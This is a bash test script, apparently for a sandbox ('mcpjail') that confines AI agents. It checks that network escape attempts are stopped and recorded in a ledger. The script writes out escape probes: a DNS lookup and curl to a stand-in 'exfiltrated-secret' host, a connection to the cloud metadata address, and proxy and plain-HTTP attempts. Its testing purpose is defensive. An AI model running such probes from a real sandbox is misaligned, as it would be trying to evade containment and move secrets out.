#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# What an agent tried is in the ledger, and it is told why it did not succeed. That it does not
# succeed, with a control for every attempt, is for tests/jail/escape.
. "$(dirname "$0")/../lib.sh"
here=$ROOT/tests/jail
if [ "${1:-}" != inside ]; then
	export ARRIVALS=$TMP/arrivals
	"$here/in_small_internet.sh" "$ARRIVALS" "$here/${0##*/}" inside >"$TMP/tap" 2>"$TMP/err"
	status=$?
	tests=$(grep -cE '^(not )?ok ' "$TMP/tap")
	grep -vE '^1\.\.' "$TMP/tap"
	is $status 0 "the small internet was made and taken down" || note "$(tail -5 "$TMP/err")"
	exit
fi

# probe | the destination that is recorded
rows='tcp-v4|192.0.2.10:443
tcp-v4-port|198.51.100.7:40000
tcp-v6|2001:db8:1::5:443
tcp-v4-mapped|192.0.2.10:80
tcp-private|10.99.0.1:80
tcp-metadata|169.254.169.254:80
tcp-neighbour|203.0.113.250:22
dot|1.1.1.1:853
mptcp|192.0.2.11:443
udp|203.0.113.9:40000
quic|192.0.2.10:443
udp-v6|2001:db8:1::123:123'
: >world
# shellcheck disable=SC2046 # a list of words
"$MCPJAIL" -q --run-dir "$TMP/run" -- "$BUILD/tests/jail/escape/escape" run world $(cut -d'|' -f1 <<<"$rows") >"$TMP/results" 2>"$TMP/err"
is $? 0 "the probes ran in the jail" || note "$(cat "$TMP/err")"
while IFS='|' read -r name record; do
	like "$(grep "^$name	" "$TMP/results")" 'stopped' "$name: stopped"
	python3 - "$TMP/run/ledger.jsonl" "$record" <<'P'
import json, sys
wanted = sys.argv[2]
seen = ["%s:%s" % (r.get("address") or r.get("host"), r.get("port"))
        for r in map(json.loads, open(sys.argv[1])) if r["type"] == "net.denied"]
sys.exit(wanted not in seen)
P
	ok $? "$name: the attempt is in the ledger"
done <<<"$rows"

# DNS names that carry data; https to another host, plain http, and a proxy the agent was told of
"$MCPJAIL" -q -- sh -c 'getent hosts exfiltrated-secret.example.org >/dev/null; curl -m 3 -s https://exfiltrated-secret.example.org/ >/dev/null; true'
out=$("$MCPJAIL" -q -- curl -sS -m 5 -i https://example.org/ 2>&1)
like "$out" '403' "https to another host is answered 403"
like "$out" '^mcpjail: .*example\.org' "with words that name it"
like "$("$MCPJAIL" -q -- curl -sS -m 5 http://192.0.2.10/ 2>&1)" '^mcpjail: .*192\.0\.2\.10' "so is plain http to an address"
like "$("$MCPJAIL" -q -- curl -sS -m 5 -x http://192.0.2.10:3128 https://example.org/ 2>&1)" '^mcpjail: .*example\.org|403' "so is CONNECT through a proxy"
is "$(cat "$ARRIVALS" "$ARRIVALS.packets")" ready "no packet has left, for a name either"
